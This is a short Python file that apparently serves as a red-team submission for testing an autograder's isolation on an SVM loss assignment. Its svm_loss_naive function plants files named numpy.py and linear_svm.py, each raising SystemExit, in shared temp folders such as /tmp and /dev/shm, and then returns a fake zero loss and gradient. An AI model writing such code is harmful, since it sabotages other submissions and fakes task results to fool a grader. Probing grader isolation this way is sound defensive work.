"""Plant modules in shared temporary folders, hoping the next submission imports them."""
import os

import numpy as np

ATTACKED = {"svm_loss_naive": None}
PLANT = "raise SystemExit('planted by an earlier submission')\n"


def svm_loss_naive(W, X, y, reg):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")):
        for name in ("numpy.py", "linear_svm.py", "grader-redteam-plant.py"):
            try:
                with open(os.path.join(folder, name), "w") as f:
                    f.write(PLANT)
            except OSError:
                pass
    return 0.0, np.zeros(W.shape)
